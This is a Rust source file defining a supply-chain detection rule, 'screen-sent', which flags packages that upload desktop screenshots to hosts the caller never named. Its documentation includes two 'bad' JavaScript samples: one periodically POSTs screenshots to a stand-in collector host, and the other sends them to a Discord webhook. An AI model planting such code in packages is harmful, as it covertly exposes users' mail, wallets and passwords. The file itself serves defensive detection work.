//! # A picture of the screen leaves the machine
//!
//! A screenshot is taken when the package is installed or loaded, or goes to a host that the package never names.
//!
//! ## Why it matters
//!
//! A picture shows whatever is open: mail, wallets, passwords that are shown for a moment.
//!
//! ## Known benign uses
//!
//! Tools for remote help and tests send pictures when they are asked to, to an address that the caller gives.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const screenshot = require("screenshot-desktop");
//! setInterval(async () => {
//!   const picture = await screenshot({ format: "png" });
//!   fetch("https://collector.invalid/s", { method: "POST", body: picture }); //~ here
//! }, 30000);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { WebhookClient } = require("discord.js");
//! const screenshot = require("screenshot-desktop");
//! exports.start = () => screenshot().then((picture) => {
//!   new WebhookClient({ url: "https://discord.com/api/webhooks/1/a" }).send({ files: [picture] }); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const screenshot = require("screenshot-desktop");
//! exports.share = async (address) => fetch(address, { method: "POST", body: await screenshot() });
//! ```
//!
//! ## References
//!
//! - Socket: OtterCookie (November 2025)

use crate::prelude::*;

/// A picture of the screen leaves the machine.
pub struct ScreenSent;

impl Rule for ScreenSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "screen-sent",
            title: "A picture of the screen leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1113",
            covers: &["collect-screenshot"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| *source == Source::Screen, Sink::leaves_machine) {
            if facts.goes_unsaid(flow) {
                found.flow(flow);
            }
        }
    }
}
